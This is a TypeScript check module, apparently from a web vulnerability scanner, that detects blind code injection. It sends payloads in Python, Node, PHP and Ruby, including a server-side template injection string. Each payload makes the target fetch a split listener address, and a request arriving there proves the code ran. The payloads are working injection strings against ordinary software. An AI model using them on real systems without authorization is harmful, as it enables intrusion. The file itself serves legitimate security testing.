// Checks for code injection without visible output: the code requests an address that only running it can compose.

import type { PointCheck } from '../check.ts'
import { isSettled, settle } from '../found.ts'
import { type CallAddress, expectCall, takesText, textValue } from '../probing.ts'
import { code } from './templates.ts'

/** The address in two halves: what follows addresses in texts finds a token that nobody waits for. */
type Halves = { first: string; second: string }

const halvesOf = ({ host, token }: CallAddress): Halves => ({
  first: `http://${host}/${token.slice(0, 9)}`,
  second: token.slice(9),
})

const ofPython = ({ first, second }: Halves) =>
  `__import__('urllib.request',fromlist=['x']).urlopen('${first}'+'${second}')`
/**
 * Stored code may also run in a browser, which has no `process`. A refusal that nobody takes ends a process of Node: the target must stand
 * where it cannot reach the address.
 */
const ofNode = ({ first, second }: Halves) => `(globalThis.process&&fetch('${first}'+'${second}').catch(String))`
const ofPhp = ({ first, second }: Halves) => `file_get_contents('${first}'.'${second}')`
const ofRuby = ({ first, second }: Halves) => `(require 'net/http';Net::HTTP.get(URI('${first}'+'${second}')))`

const payloads: readonly { language: string; of: (text: string, halves: Halves) => string }[] = [
  { language: 'Python', of: (_, halves) => ofPython(halves) },
  { language: 'Python', of: (text, halves) => `${text}'+str(${ofPython(halves)})+'` },
  { language: 'Python', of: (_, halves) => `{{cycler.__init__.__globals__.__builtins__.${ofPython(halves)}}}` },
  // a template that takes expressions of the language itself
  { language: 'Python', of: (_, halves) => `\${${ofPython(halves)}}` },
  { language: 'JavaScript', of: (_, halves) => ofNode(halves) },
  { language: 'JavaScript', of: (text, halves) => `${text}'+${ofNode(halves)}+'` },
  { language: 'PHP', of: (_, halves) => `${ofPhp(halves)};` },
  { language: 'PHP', of: (text, halves) => `${text}'.${ofPhp(halves)}.'` },
  { language: 'Ruby', of: (_, halves) => ofRuby(halves) },
]

export const silentCode: PointCheck = {
  ...code,
  id: 'silent-code-injection',
  title: 'Code injection',
  usesListener: true,
  accepts: takesText,
  async probe(point, operation, context) {
    if (context.outOfBand === null || isSettled(94, operation, point, context)) return null
    for (const { language, of } of payloads) {
      const isHit = await expectCall(
        operation,
        context,
        (address) => context.attempt(operation, [{ point, value: of(textValue(point), halvesOf(address)) }]),
        (exchange, url) => {
          settle(94, operation, point, context)
          const detail = `${language} ran the value: the target sent a request to an address that the value holds in two halves.`
          context.report(silentCode, { operation, point, detail, proof: [url], exchange })
        },
      )
      if (isHit) return null
    }
    return null
  },
}
